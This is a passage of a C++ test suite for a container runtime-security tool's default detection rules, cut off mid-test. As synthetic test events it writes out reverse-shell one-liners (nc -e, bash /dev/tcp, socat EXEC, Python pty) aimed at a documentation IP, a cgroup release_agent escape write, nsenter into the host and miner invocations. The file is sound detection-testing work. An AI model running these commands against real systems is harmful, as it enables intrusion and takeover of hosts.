// bulwark's shipped default rules (rules/bulwark_rules.yaml, as compiled into
// the watch library): they load cleanly, and each of the 31 rules fires on a
// synthetic event reproducing its trigger and stays silent on a near miss
// that changes the one fact the rule is about (the process, the path, the
// port, host instead of container, ...).
#include <fcntl.h>
#include <sched.h>

#include <gtest/gtest.h>

#include <algorithm>
#include <array>
#include <cstdint>
#include <memory>
#include <set>
#include <string>
#include <vector>

#include "runtime/rules/dns_cache.hpp"
#include "runtime/rules/fake_state.hpp"
#include "runtime/watch/default_rules.hpp"

namespace bulwark::runtime::watch {
namespace {

using rules::Engine;
using rules::LoadResult;
using rules::testing::Fires;
using rules::testing::Scene;

constexpr const char* kContainerId = "3ad7b26ded6d";
constexpr const char* kImage = "docker.io/library/app";
constexpr int64_t kPid = 100;      // the process under test
constexpr int64_t kParent = 50;    // its parent, under init (pid 1)
constexpr int64_t kEinprogress = -115;
constexpr uint64_t kCapNetBindService = uint64_t{1} << 10;
constexpr uint64_t kCapSysAdmin = uint64_t{1} << 21;
constexpr uint32_t kTty = 34816;  // /dev/pts/0
constexpr std::array<uint8_t, 4> kPublicIp = {203, 0, 113, 5};
constexpr std::array<uint8_t, 4> kPoolIp = {198, 51, 100, 7};
constexpr std::array<uint8_t, 4> kOtherPublicIp = {198, 51, 100, 8};
constexpr std::array<uint8_t, 4> kPrivateIp = {10, 0, 0, 5};

// Every rule of the shipped file; each has a test below.
const std::set<std::string>& TestedRules() {
  static const std::set<std::string> names = {
      "Mount in container",
      "Namespace change in container",
      "Process disguised as a kernel thread",
      "Container escape tool launched in container",
      "Container engine socket accessed from container",
      "Container escape file written",
      "Standard stream redirected to network socket",
      "Reverse shell command launched",
      "Internet connection from internal-only container",
      "Application interpreter connected out on unexpected port",
      "Connection to crypto-mining pool port",
      "Connection to crypto-mining pool domain",
      "Mining pool port contacted by a dropped program",
      "Crypto miner launched",
      "Drop and execute new binary in container",
      "Execution from temporary directory",
      "Fileless execution via memfd",
      "Setuid to root by non-root process",
      "Dangerous capabilities set by non-root process",
      "Kernel module loaded from container",
      "Kernel module loaded by unexpected process",
      "Ptrace attach to process",
      "Log file cleared or deleted",
      "Shell history deleted or truncated",
      "Shell history disabled",
      "Read sensitive file",
      "Write below binary dir",
      "Binary renamed or removed",
      "Dynamic linker preload configured",
      "Write below etc",
      "Package manager launched in container",
      "Interactive shell in container",
      "Shell spawned by application in container",
  };
  return names;
}

enum class Where { kHost, kContainer };

class DefaultRules : public ::testing::Test {
 protected:
  static void SetUpTestSuite() {
    dns_ = std::make_unique<rules::DnsCache>();
    dns_->Set("pool.supportxmr.com", {*rules::ParseIp("198.51.100.7")});
    dns_->Set("updates.example.com", {*rules::ParseIp("198.51.100.8")});
    load_result_ = std::make_unique<LoadResult>();
    engine_ = LoadDefaults("", *load_result_);
  }
  static void TearDownTestSuite() {
    engine_.reset();
    load_result_.reset();
    dns_.reset();
  }
  void SetUp() override { ASSERT_NE(engine_, nullptr) << "the default rules did not load"; }

  // The embedded defaults, then `extra_yaml` (a user file) when not empty.
  static std::unique_ptr<Engine> LoadDefaults(const std::string& extra_yaml, LoadResult& result) {
    auto sources = CollectRuleSources(true, {});
    if (!sources.ok()) return nullptr;
    std::vector<rules::RuleSource> all = *sources;
    if (!extra_yaml.empty()) all.push_back({"local_rules.yaml", extra_yaml});
    return Engine::Load(all, result, dns_.get());
  }

  static bool FiresOn(const Scene& scene, const std::string& rule) { return Fires(*engine_, scene, rule); }

  // Fires on `hit`, not on `miss`.
  static void Expect(const std::string& rule, const Scene& hit, const Scene& miss) {
    EXPECT_TRUE(FiresOn(hit, rule)) << rule << " did not fire on its trigger";
    EXPECT_FALSE(FiresOn(miss, rule)) << rule << " fired on the near miss";
  }

  // Process kPid `comm` (argv[1..] = args), child of kParent `parent`; both
  // in one container when `where` says so.
  static Scene Proc(const std::string& comm, std::vector<std::string> args = {}, const std::string& parent = "bash",
                    Where where = Where::kHost) {
    Scene s;
    s.state.Add(kParent, 1, parent);
    Process& p = s.state.Add(kPid, kParent, comm, std::move(args));
    if (where == Where::kContainer) {
      s.state.AddContainer(kContainerId, kImage);
      p.container_id = kContainerId;
      s.state.procs[kParent].container_id = kContainerId;
    }
    return s;
  }

  // A successful execve of Proc(...).
  static Scene ExecOf(const std::string& comm, std::vector<std::string> args = {}, const std::string& parent = "bash",
                      Where where = Where::kHost) {
    Scene s = Proc(comm, std::move(args), parent, where);
    s.Exec(kPid);
    return s;
  }

  // connect() of fd 3, a TCP socket, to remote:port.
  static void Connect(Scene& s, const std::array<uint8_t, 4>& remote, uint16_t port, int64_t res = 0) {
    s.Start(EventType::kConnect, kPid, res);
    s.Arg("fd", ArgKind::kFd).num = 3;
    SockAddr& addr = s.Arg("addr", ArgKind::kSockaddr).addr;
    addr.family = 2;
    std::copy(remote.begin(), remote.end(), addr.ip.begin());
    addr.port = port;
    s.Socket4({172, 17, 0, 2}, 40000, remote, port);
  }

  // connect() of fd 3, a UNIX socket, to `path`.
  static void SetName(Scene& s, const std::string& name) {  // prctl(PR_SET_NAME, name)
    s.Start(EventType::kPrctl, kPid);
    s.Arg("option", ArgKind::kPrctlOption).num = 15;
    s.Arg("arg2_int", ArgKind::kUint).num = 0;
    s.Arg("arg2_str", ArgKind::kString).text = name;
  }

  static void ConnectUnix(Scene& s, const std::string& path) {
    s.Start(EventType::kConnect, kPid);
    s.Arg("fd", ArgKind::kFd).num = 3;
    SockAddr& addr = s.Arg("addr", ArgKind::kSockaddr).addr;
    addr.family = 1;
    addr.path = path;
    s.has_fd = true;
    s.fd.num = 3;
    s.fd.type = FdType::kUnix;
    s.fd.name = path;
    s.fd.remote = addr;
    s.fd.connected = true;
  }

  static void Unlinkat(Scene& s, const std::string& path) {
    s.Start(EventType::kUnlinkat, kPid);
    s.Arg("dirfd", ArgKind::kFd).num = -100;  // AT_FDCWD
    s.Arg("name", ArgKind::kPath).text = path;
    s.Arg("flags", ArgKind::kUnlinkatFlags).num = 0;
  }

  static void Rename(Scene& s, const std::string& from, const std::string& to) {
    s.Start(EventType::kRename, kPid);
    s.Arg("oldpath", ArgKind::kPath).text = from;
    s.Arg("newpath", ArgKind::kPath).text = to;
  }

  static void Mount(Scene& s) {
    s.Start(EventType::kMount, kPid);
    s.Arg("dev", ArgKind::kPath).text = "/dev/sda1";
    s.Arg("dir", ArgKind::kPath).text = "/mnt/host";
    s.Arg("type", ArgKind::kString).text = "ext4";
    s.Arg("flags", ArgKind::kMountFlags).num = 0;
  }

  static void Unshare(Scene& s, int64_t flags) {
    s.Start(EventType::kUnshare, kPid);
    s.Arg("flags", ArgKind::kNamespaceFlags).num = flags;
  }

  static void Ptrace(Scene& s, int64_t request) {
    s.Start(EventType::kPtrace, kPid);
    s.Arg("request", ArgKind::kPtraceRequest).num = request;
    s.Arg("pid", ArgKind::kPid).num = 4242;
    s.Arg("addr", ArgKind::kUint).num = 0;
    s.Arg("data", ArgKind::kUint).num = 0;
  }

  static void FinitModule(Scene& s) {
    s.Start(EventType::kFinitModule, kPid);
    s.Arg("fd", ArgKind::kFd).num = 3;
    s.Arg("uargs", ArgKind::kString).text = "";
    s.Arg("flags", ArgKind::kInt).num = 0;
  }

  // dup2(3, newfd) where fd 3 is `fd`: the event describes the new descriptor.
  static void Dup2(Scene& s, int64_t newfd) {
    s.Start(EventType::kDup2, kPid, newfd);
    s.Arg("oldfd", ArgKind::kFd).num = 3;
    s.Arg("newfd", ArgKind::kFd).num = newfd;
  }

  static void Capset(Scene& s, uint64_t effective) {
    s.Start(EventType::kCapset, kPid);
    s.Arg("cap_inheritable", ArgKind::kCapabilities).num = 0;
    s.Arg("cap_permitted", ArgKind::kCapabilities).num = static_cast<int64_t>(effective);
    s.Arg("cap_effective", ArgKind::kCapabilities).num = static_cast<int64_t>(effective);
  }

  static inline std::unique_ptr<rules::DnsCache> dns_;
  static inline std::unique_ptr<LoadResult> load_result_;
  static inline std::unique_ptr<Engine> engine_;
};

TEST_F(DefaultRules, LoadWithoutErrors) {
  std::string diagnostics;
  for (const auto& d : load_result_->diagnostics) diagnostics += rules::FormatDiagnostic(d) + "\n";
  EXPECT_EQ(load_result_->ErrorCount(), 0u) << diagnostics;
  EXPECT_EQ(load_result_->WarningCount(), 0u) << diagnostics;
  auto summaries = engine_->Rules();
  EXPECT_EQ(summaries.size(), 33u);
  std::set<std::string> loaded;
  for (const auto& r : summaries) {
    loaded.insert(r.name);
    EXPECT_TRUE(r.compiled) << r.name;
    EXPECT_TRUE(r.enabled) << r.name;
    EXPECT_FALSE(r.event_types.empty()) << r.name;
  }
  EXPECT_EQ(engine_->ActiveRuleCount(), 33u);
  // Each rule of the file has its scenario below.
  EXPECT_EQ(loaded, TestedRules());
}

// --- Container escape -----------------------------------------------------

TEST_F(DefaultRules, MountInContainer) {
  Scene hit = Proc("mount", {"/dev/sda1", "/mnt/host"}, "sh", Where::kContainer);
  Mount(hit);
  Scene miss = Proc("mount", {"/dev/sda1", "/mnt/host"}, "sh");  // on the host
  Mount(miss);
  Expect("Mount in container", hit, miss);
  // A failed attempt alerts too; the runtime setting the container up does not.
  Scene failed = hit;
  failed.evt.res = -1;  // EPERM
  EXPECT_TRUE(FiresOn(failed, "Mount in container"));
  Scene runtime = Proc("runc:[2:INIT]", {}, "runc", Where::kContainer);
  Mount(runtime);
  EXPECT_FALSE(FiresOn(runtime, "Mount in container"));
}

TEST_F(DefaultRules, NamespaceChangeInContainer) {
  Scene hit = Proc("unshare", {"-U", "-m", "sh"}, "sh", Where::kContainer);
  Unshare(hit, CLONE_NEWUSER | CLONE_NEWNS);
  Scene miss = Proc("unshare", {"-u", "sh"}, "sh", Where::kContainer);
  Unshare(miss, CLONE_NEWUTS);  // a new hostname only
  Expect("Namespace change in container", hit, miss);
  Scene setns = Proc("nsenter", {"-t", "1", "-m", "sh"}, "sh", Where::kContainer);
  setns.Start(EventType::kSetns, kPid);
  setns.Arg("fd", ArgKind::kFd).num = 3;
  setns.Arg("nstype", ArgKind::kNamespaceFlags).num = CLONE_NEWNS;
  EXPECT_TRUE(FiresOn(setns, "Namespace change in container"));
  Scene host = Proc("unshare", {"-U", "-m", "sh"}, "sh");
  Unshare(host, CLONE_NEWUSER | CLONE_NEWNS);
  EXPECT_FALSE(FiresOn(host, "Namespace change in container"));
}

TEST_F(DefaultRules, ContainerEscapeToolLaunchedInContainer) {
  Scene hit = ExecOf("nsenter", {"-t", "1", "-m", "-u", "-i", "-n", "sh"}, "sh", Where::kContainer);
  Scene miss = ExecOf("nsenter", {"-t", "1", "-m", "-u", "-i", "-n", "sh"}, "sh");  // an admin on the host
  Expect("Container escape tool launched in container", hit, miss);
  Scene debugfs = ExecOf("debugfs", {"/dev/sda1"}, "sh", Where::kContainer);
  EXPECT_TRUE(FiresOn(debugfs, "Container escape tool launched in container"));
  Scene ls = ExecOf("ls", {"/mnt"}, "sh", Where::kContainer);
  EXPECT_FALSE(FiresOn(ls, "Container escape tool launched in container"));
}

TEST_F(DefaultRules, ContainerEngineSocketAccessedFromContainer) {
  Scene hit = Proc("curl", {"--unix-socket", "/var/run/docker.sock", "http://x/containers/json"}, "sh",
                   Where::kContainer);
  ConnectUnix(hit, "/var/run/docker.sock");
  Scene miss = Proc("curl", {"--unix-socket", "/var/run/app.sock", "http://x/health"}, "sh", Where::kContainer);
  ConnectUnix(miss, "/var/run/app.sock");  // the application's own socket
  Expect("Container engine socket accessed from container", hit, miss);
  Scene containerd = Proc("ctr", {}, "sh", Where::kContainer);
  ConnectUnix(containerd, "/run/containerd/containerd.sock");
  EXPECT_TRUE(FiresOn(containerd, "Container engine socket accessed from container"));
  Scene host = Proc("docker", {"ps"}, "bash");  // the docker CLI on the host
  ConnectUnix(host, "/var/run/docker.sock");
  EXPECT_FALSE(FiresOn(host, "Container engine socket accessed from container"));
  // A probe for a socket that is not there fails and names no descriptor:
  // the attempt still alerts (the lab payload's probe).
  Scene probe = Proc("kworker/0:1", {}, "sh", Where::kContainer);
  ConnectUnix(probe, "/var/run/docker.sock");
  probe.evt.res = -2;  // ENOENT
  probe.fd.name.clear();
  probe.fd.connected = false;
  EXPECT_TRUE(FiresOn(probe, "Container engine socket accessed from container"));
}

TEST_F(DefaultRules, ProcessDisguisedAsAKernelThread) {
  Scene hit = Proc(".kworker", {}, "sh", Where::kContainer);
  SetName(hit, "kworker/0:1");
  Scene miss = Proc("python3", {}, "sh", Where::kContainer);
  SetName(miss, "gunicorn: worker");  // an application naming its workers
  Expect("Process disguised as a kernel thread", hit, miss);
  Scene softirq = Proc("x", {}, "bash");  // on the host too
  SetName(softirq, "ksoftirqd/1");
  EXPECT_TRUE(FiresOn(softirq, "Process disguised as a kernel thread"));
  Scene prefix_only = Proc("x", {}, "bash");
  SetName(prefix_only, "kworkers-pool");  // a name that merely starts alike
  EXPECT_FALSE(FiresOn(prefix_only, "Process disguised as a kernel thread"));
  Scene bracketed = ExecOf(".kworker", {"--stage2"}, "sh", Where::kContainer);
  bracketed.state.procs[kPid].exe = "[kworker/0:1-events]";  // argv[0] as ps shows kernel threads
  EXPECT_TRUE(FiresOn(bracketed, "Process disguised as a kernel thread"));
  Scene plain = ExecOf("ls", {"-l"}, "sh", Where::kContainer);
  EXPECT_FALSE(FiresOn(plain, "Process disguised as a kernel thread"));
}

TEST_F(DefaultRules, ContainerEscapeFileWritten) {
  Scene hit = Proc("sh", {"-c", "echo /cmd > /sys/fs/cgroup/rdma/release_agent"}, "bash", Where::kContainer);
  hit.Open(kPid, "/sys/fs/cgroup/rdma/release_agent", O_WRONLY | O_CREAT | O_TRUNC);
  Scene miss = Proc("cat", {"/sys/fs/cgroup/rdma/release_agent"}, "bash", Where::kContainer);
  miss.Open(kPid, "/sys/fs/cgroup/rdma/release_agent", O_RDONLY);  // read, not written
  Expect("Container escape file written", hit, miss);
  Scene core = Proc("sh", {}, "bash", Where::kContainer);
  core.Open(kPid, "/proc/sys/kernel/core_pattern", O_WRONLY | O_TRUNC);
  EXPECT_TRUE(FiresOn(core, "Container escape file written"));
  Scene host = Proc("sh", {}, "bash");
  host.Open(kPid, "/proc/sys/kernel/core_pattern", O_WRONLY | O_TRUNC);  // systemd-coredump setup
  EXPECT_FALSE(FiresOn(host, "Container escape file written"));
}

// --- Reverse shells -------------------------------------------------------

TEST_F(DefaultRules, StandardStreamRedirectedToNetworkSocket) {
  Scene hit = Proc("bash", {"-i"}, "sh", Where::kContainer);
  Dup2(hit, 0);
  hit.Socket4({172, 17, 0, 2}, 40000, kPublicIp, 4444, 0);
  Scene miss = Proc("bash", {"-i"}, "sh", Where::kContainer);
  Dup2(miss, 1);  // `exec >/tmp/out.log`: a file onto stdout
  miss.has_fd = true;
  miss.fd.num = 1;
  miss.fd.type = FdType::kFile;
  miss.fd.name = "/tmp/out.log";
  Expect("Standard stream redirected to network socket", hit, miss);
  Scene high = hit;  // the socket duplicated onto fd 7, not a standard stream
  high.evt.res = 7;
  EXPECT_FALSE(FiresOn(high, "Standard stream redirected to network socket"));
  Scene host = Proc("python3", {"-c", "..."}, "bash");
  Dup2(host, 2);
  host.Socket4({192, 168, 1, 10}, 40000, kPublicIp, 9001, 2);
  EXPECT_TRUE(FiresOn(host, "Standard stream redirected to network socket"));
}

TEST_F(DefaultRules, ReverseShellCommandLaunched) {
  Scene hit = ExecOf("nc", {"-e", "/bin/sh", "203.0.113.5", "4444"}, "sh");
  Scene miss = ExecOf("nc", {"-zv", "203.0.113.5", "4444"}, "sh");  // a port check, no program run
  Expect("Reverse shell command launched", hit, miss);
  Scene dev_tcp = ExecOf("bash", {"-c", "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"}, "python3", Where::kContainer);
  EXPECT_TRUE(FiresOn(dev_tcp, "Reverse shell command launched"));
  Scene socat = ExecOf("socat", {"TCP:203.0.113.5:4444", "EXEC:/bin/bash,pty,stderr"}, "sh");
  EXPECT_TRUE(FiresOn(socat, "Reverse shell command launched"));
  Scene socat_relay = ExecOf("socat", {"TCP-LISTEN:8080,fork", "TCP:10.0.0.5:80"}, "sh");
  EXPECT_FALSE(FiresOn(socat_relay, "Reverse shell command launched"));
  Scene pty = ExecOf("python3",
                     {"-c", "import socket,pty;s=socket.socket();s.connect(('203.0.113.5',4444));pty.spawn('sh')"},
                     "sh");
  EXPECT_TRUE(FiresOn(pty, "Reverse shell command launched"));
}

// --- Network --------------------------------------------------------------

TEST_F(DefaultRules, InternetConnectionFromInternalOnlyContainer) {
  // Silent by default: no container is declared internal-only.
  Scene undeclared = Proc("python3", {"app.py"}, "sh", Where::kContainer);
  Connect(undeclared, kPublicIp, 443);
  EXPECT_FALSE(FiresOn(undeclared, "Internet connection from internal-only container"));

  LoadResult result;
  auto engine = LoadDefaults(
      "- list: bulwark_internal_only_images\n"
      "  items: [postgres]\n"
      "  override:\n"
      "    items: append\n"
      "- list: bulwark_internal_only_container_names\n"
      "  items: [orders-db]\n"
      "  override:\n"
      "    items: append\n",
      result);
  ASSERT_NE(engine, nullptr);
  ASSERT_EQ(result.ErrorCount(), 0u) << rules::testing::Errors(result);
  const std::string rule = "Internet connection from internal-only container";
  Scene hit = Proc("postgres", {}, "postgres", Where::kContainer);
  hit.state.containers[kContainerId].image_repository = "postgres";
  Connect(hit, kPublicIp, 443, kEinprogress);
  Scene miss = hit;  // the same database reaching a peer on the private network
  Connect(miss, kPrivateIp, 5432);
  EXPECT_TRUE(Fires(*engine, hit, rule)) << rule << " did not fire on its trigger";
  EXPECT_FALSE(Fires(*engine, miss, rule)) << rule << " fired on the near miss";
  Scene by_name = Proc("python3", {"worker.py"}, "sh", Where::kContainer);
  by_name.state.containers[kContainerId].name = "orders-db";
  Connect(by_name, kPublicIp, 80);
  EXPECT_TRUE(Fires(*engine, by_name, rule));
  Scene other = Proc("python3", {"worker.py"}, "sh", Where::kContainer);  // an undeclared container
  Connect(other, kPublicIp, 80);
  EXPECT_FALSE(Fires(*engine, other, rule));
}

TEST_F(DefaultRules, ApplicationInterpreterConnectedOutOnUnexpectedPort) {
  Scene hit = Proc("python3", {"app.py"}, "gunicorn", Where::kContainer);
  Connect(hit, kPublicIp, 9001, kEinprogress);
  Scene miss = Proc("python3", {"app.py"}, "gunicorn", Where::kContainer);
  Connect(miss, kPublicIp, 443, kEinprogress);  // HTTPS to an API
  Expect("Application interpreter connected out on unexpected port", hit, miss);
  Scene private_peer = Proc("python3", {"app.py"}, "gunicorn", Where::kContainer);
  Connect(private_peer, kPrivateIp, 6379);  // Redis next door
  EXPECT_FALSE(FiresOn(private_peer, "Application interpreter connected out on unexpected port"));
  Scene curl = Proc("curl", {}, "sh", Where::kContainer);  // not an interpreter
  Connect(curl, kPublicIp, 9001);
  EXPECT_FALSE(FiresOn(curl, "Application interpreter connected out on unexpected port"));
  Scene refused = hit;
  refused.evt.res = -111;  // ECONNREFUSED
  EXPECT_FALSE(FiresOn(refused, "Application interpreter connected out on unexpected port"));
}

// --- Crypto-mining --------------------------------------------------------

TEST_F(DefaultRules, ConnectionToCryptoMiningPoolPort) {
  Scene hit = Proc("kworkerds", {}, "sh");
  Connect(hit, kPublicIp, 3333, kEinprogress);
  Scene miss = Proc("kworkerds", {}, "sh");
  Connect(miss, kPublicIp, 443, kEinprogress);  // same connection, not a stratum port
  Expect("Connection to crypto-mining pool port", hit, miss);
  Scene private_peer = Proc("kworkerds", {}, "sh");
  Connect(private_peer, kPrivateIp, 3333);  // e.g. Grafana's dev port inside the network
  EXPECT_FALSE(FiresOn(private_peer, "Connection to crypto-mining pool port"));
  Scene container = Proc("node", {"index.js"}, "sh", Where::kContainer);
  Connect(container, kPublicIp, 14444);
  EXPECT_TRUE(FiresOn(container, "Connection to crypto-mining pool port"));
}

TEST_F(DefaultRules, MiningPoolPortContactedByADroppedProgram) {
  const std::string rule = "Mining pool port contacted by a dropped program";
  constexpr std::array<uint8_t, 4> kLoopbackIp = {127, 0, 0, 1};
  Scene hit = Proc("kworker/0:1", {}, "sh", Where::kContainer);
  hit.state.procs[kPid].exepath = hit.state.procs[kPid].exe = "/tmp/.ICE-unix/.kworker";
  Connect(hit, kLoopbackIp, 3333);  // the lab's stand-in pool, a stratum proxy
  Scene miss = Proc("kworker/0:1", {}, "sh", Where::kContainer);
  miss.state.procs[kPid].exepath = miss.state.procs[kPid].exe = "/tmp/.ICE-unix/.kworker";
  Connect(miss, kLoopbackIp, 5432);  // the same program, not a stratum port
  Expect(rule, hit, miss);
  Scene hidden = Proc("agent", {}, "sh", Where::kHost);
  hidden.state.procs[kPid].exepath = hidden.state.procs[kPid].exe = "/opt/.cache/agent";
  Connect(hidden, kPrivateIp, 14444);
  EXPECT_TRUE(FiresOn(hidden, rule));
  Scene installed = Proc("grafana", {}, "sh", Where::kContainer);
  installed.state.procs[kPid].exepath = installed.state.procs[kPid].exe = "/usr/share/grafana/bin/grafana";
  Connect(installed, kLoopbackIp, 3333);  // a real service on 3333, installed in the image
  EXPECT_FALSE(FiresOn(installed, rule));
  Scene public_pool = hit;
  Connect(public_pool, kPublicIp, 3333, kEinprogress);  // the public-address rule's case: one alert, not two
  EXPECT_FALSE(FiresOn(public_pool, rule));
  EXPECT_TRUE(FiresOn(public_pool, "Connection to crypto-mining pool port"));
}

TEST_F(DefaultRules, ConnectionToCryptoMiningPoolDomain) {
  Scene hit = Proc("python3", {"job.py"}, "sh", Where::kContainer);
  Connect(hit, kPoolIp, 443, kEinprogress);  // pool.supportxmr.com
  Scene miss = Proc("python3", {"job.py"}, "sh", Where::kContainer);
  Connect(miss, kOtherPublicIp, 443, kEinprogress);  // updates.example.com
  Expect("Connection to crypto-mining pool domain", hit, miss);
}

TEST_F(DefaultRules, CryptoMinerLaunched) {
  Scene hit = ExecOf("xmrig", {"--config", "config.json"}, "sh");
  Scene miss = ExecOf("monerod", {"--rpc-bind-port", "18081"}, "sh");  // a Monero node, not a miner
  Expect("Crypto miner launched", hit, miss);
  Scene renamed = ExecOf("kthreadd2", {"-o", "stratum+tcp://pool.example:3333", "-u", "wallet"}, "sh",
                         Where::kContainer);
  EXPECT_TRUE(FiresOn(renamed, "Crypto miner launched"));
  Scene options = ExecOf("systemd-helper", {"--donate-level", "1", "-a", "rx/0"}, "sh");
  EXPECT_TRUE(FiresOn(options, "Crypto miner launched"));
  Scene https = ExecOf("kthreadd2", {"-o", "https://pool.example:443"}, "sh");
  EXPECT_FALSE(FiresOn(https, "Crypto miner launched"));
}

// --- New executables ------------------------------------------------------

TEST_F(DefaultRules, DropAndExecuteNewBinaryInContainer) {
  Scene hit = ExecOf("payload", {}, "sh", Where::kContainer);
  hit.state.procs[kPid].exe_upper_layer = true;  // written after the container started
  Scene miss = ExecOf("payload", {}, "sh", Where::kContainer);  // shipped in the image
  Expect("Drop and execute new binary in container", hit, miss);
  Scene installer = ExecOf("payload", {}, "dpkg", Where::kContainer);
  installer.state.procs[kPid].exe_upper_layer = true;
  EXPECT_FALSE(FiresOn(installer, "Drop and execute new binary in container"));
}

TEST_F(DefaultRules, ExecutionFromTemporaryDirectory) {
  Scene hit = Proc("payload", {}, "sh", Where::kHost);
  hit.state.procs[kPid].exepath = hit.state.procs[kPid].exe = "/tmp/.x/payload";
  hit.Exec(kPid);
  Scene miss = Proc("payload", {}, "sh", Where::kHost);
  miss.state.procs[kPid].exepath = miss.state.procs[kPid].exe = "/usr/local/bin/payload";
  miss.Exec(kPid);
  Expect("Execution from temporary directory", hit, miss);
  Scene shm = Proc("x", {}, "sh", Where::kContainer);
  shm.state.procs[kPid].exepath = shm.state.procs[kPid].exe = "/dev/shm/x";
  shm.Exec(kPid);
  EXPECT_TRUE(FiresOn(shm, "Execution from temporary directory"));
  Scene script = ExecOf("sh", {"/tmp/install.sh"}, "python3");
  EXPECT_TRUE(FiresOn(script, "Execution from temporary directory"));
  Scene not_shell = ExecOf("cat", {"/tmp/install.sh"}, "bash");
  EXPECT_FALSE(FiresOn(not_shell, "Execution from temporary directory"));
}

TEST_F(DefaultRules, FilelessExecutionViaMemfd) {
  Scene hit = Proc("3", {}, "python3");
  hit.state.procs[kPid].exe_from_memfd = true;
  hit.state.procs[kPid].exepath = "memfd:payload (deleted)";
  hit.Exec(kPid);
  Scene miss = Proc("runc", {"init"}, "containerd-shim");  // runc's own cloned binary
  miss.state.procs[kPid].exe_from_memfd = true;
  miss.state.procs[kPid].exepath = miss.state.procs[kPid].exe = "memfd:runc_cloned:/proc/self/exe";
  miss.Exec(kPid);
  Expect("Fileless execution via memfd", hit, miss);
  Scene disk = ExecOf("3", {}, "python3");  // the same program from disk
  EXPECT_FALSE(FiresOn(disk, "Fileless execution via memfd"));
}

// --- Privilege escalation -------------------------------------------------

TEST_F(DefaultRules, SetuidToRootByNonRootProcess) {
  auto setuid0 = [](const std::string& comm) {
    Scene s = Proc(comm, {}, "bash");
    s.state.procs[kPid].loginuid = 1000;  // logged in as alice
    s.Start(EventType::kSetuid, kPid, 0);
    s.Arg("uid", ArgKind::kUid).num = 0;
    return s;
  };
  Scene hit = setuid0("exploit");
  Scene miss = setuid0("sudo");  // becomes root by design
  Expect("Setuid to root by non-root process", hit, miss);
  Scene daemon = setuid0("exploit");
  daemon.state.procs[kPid].loginuid.reset();  // a system service, never logged in
  EXPECT_FALSE(FiresOn(daemon, "Setuid to root by non-root process"));
  Scene failed = setuid0("exploit");
  failed.evt.res = -1;  // EPERM
  EXPECT_FALSE(FiresOn(failed, "Setuid to root by non-root process"));
  Scene container = Proc("exploit", {}, "sh", Where::kContainer);
  container.Start(EventType::kSetresuid, kPid, 0);
  container.Arg("ruid", ArgKind::kUid).num = -1;
  container.Arg("euid", ArgKind::kUid).num = 0;
  container.Arg("suid", ArgKind::kUid).num = -1;
  EXPECT_TRUE(FiresOn(container, "Setuid to root by non-root process"));
}

TEST_F(DefaultRules, DangerousCapabilitiesSetByNonRootProcess) {
  Scene hit = Proc("exploit", {}, "bash");
  hit.state.procs[kPid].uid = hit.state.procs[kPid].euid = 1000;
  Capset(hit, kCapSysAdmin);
  Scene miss = Proc("exploit", {}, "bash");
  miss.state.procs[kPid].uid = miss.state.procs[kPid].euid = 1000;
  Capset(miss, kCapNetBindService);  // a web server keeping port 80
  Expect("Dangerous capabilities set by non-root process", hit, miss);
  Scene root = Proc("exploit", {}, "bash");
  Capset(root, kCapSysAdmin);
  EXPECT_FALSE(FiresOn(root, "Dangerous capabilities set by non-root process"));
}

// --- Kernel modules and other processes -----------------------------------

TEST_F(DefaultRules, KernelModuleLoadedFromContainer) {
  Scene hit = Proc("insmod", {"rootkit.ko"}, "sh", Where::kContainer);
  FinitModule(hit);
  Scene miss = Proc("insmod", {"rootkit.ko"}, "sh");  // on the host
  FinitModule(miss);
  Expect("Kernel module loaded from container", hit, miss);
  Scene init = Proc("python3", {}, "sh", Where::kContainer);
  init.Start(EventType::kInitModule, kPid);
  init.Arg("length", ArgKind::kUint).num = 4096;
  init.Arg("uargs", ArgKind::kString).text = "";
  EXPECT_TRUE(FiresOn(init, "Kernel module loaded from container"));
}

TEST_F(DefaultRules, KernelModuleLoadedByUnexpectedProcess) {
  Scene hit = Proc("python3", {"load.py"}, "bash");
  FinitModule(hit);
  Scene miss = Proc("modprobe", {"br_netfilter"}, "systemd");
  FinitModule(miss);
  Expect("Kernel module loaded by unexpected process", hit, miss);
  Scene container = Proc("python3", {"load.py"}, "sh", Where::kContainer);  // the container rule's case
  FinitModule(container);
  EXPECT_FALSE(FiresOn(container, "Kernel module loaded by unexpected process"));
}

TEST_F(DefaultRules, PtraceAttachToProcess) {
  Scene hit = Proc("python3", {"inject.py"}, "bash");
  Ptrace(hit, 16);  // PTRACE_ATTACH
  Scene miss = Proc("gdb", {"-p", "4242"}, "bash");  // a debugger on the host
  Ptrace(miss, 16);
  Expect("Ptrace attach to process", hit, miss);
  Scene container_gdb = Proc("gdb", {"-p", "4242"}, "bash", Where::kContainer);
  Ptrace(container_gdb, 16);
  EXPECT_TRUE(FiresOn(container_gdb, "Ptrace attach to process"));
  Scene peek = Proc("python3", {"inject.py"}, "bash");
  Ptrace(peek, 2);  // PTRACE_PEEKDATA: reading, not attaching or writing
  EXPECT_FALSE(FiresOn(peek, "Ptrace attach to process"));
  for (int64_t request : {4, 5, 6, 13, 0x4206}) {  // POKETEXT, POKEDATA, POKEUSR, SETREGS, SEIZE
    Scene s = Proc("python3", {"inject.py"}, "bash");
    Ptrace(s, request);
    EXPECT_TRUE(FiresOn(s, "Ptrace attach to process")) << "request " << request;
  }
}

// --- Covering tracks ------------------------------------------------------

TEST_F(DefaultRules, LogFileClearedOrDeleted) {
  Scene hit = Proc("bash", {}, "sshd");
  hit.Open(kPid, "/var/log/auth.log", O_WRONLY | O_TRUNC);  // `> /var/log/auth.log`
  Scene miss = Proc("logrotate", {"/etc/logrotate.conf"}, "cron");
  miss.Open(kPid, "/var/log/auth.log", O_WRONLY | O_TRUNC);  // copytruncate
  Expect("Log file cleared or deleted", hit, miss);
  Scene append = Proc("bash", {}, "sshd");
  append.Open(kPid, "/var/log/auth.log", O_WRONLY | O_APPEND);
  EXPECT_FALSE(FiresOn(append, "Log file cleared or deleted"));
  Scene rm = Proc("rm", {"-f", "/var/log/wtmp"}, "bash");
  Unlinkat(rm, "/var/log/wtmp");
  EXPECT_TRUE(FiresOn(rm, "Log file cleared or deleted"));
  Scene shred = ExecOf("shred", {"-u", "/var/log/secure"}, "bash");
  EXPECT_TRUE(FiresOn(shred, "Log file cleared or deleted"));
  Scene tmp = Proc("rm", {"-f", "/tmp/build.log"}, "bash");
  Unlinkat(tmp, "/tmp/build.log");
  EXPECT_FALSE(FiresOn(tmp, "Log file cleared or deleted"));
}

TEST_F(DefaultRules, ShellHistoryDeletedOrTruncated) {
  Scene hit = Proc("bash", {}, "sshd");
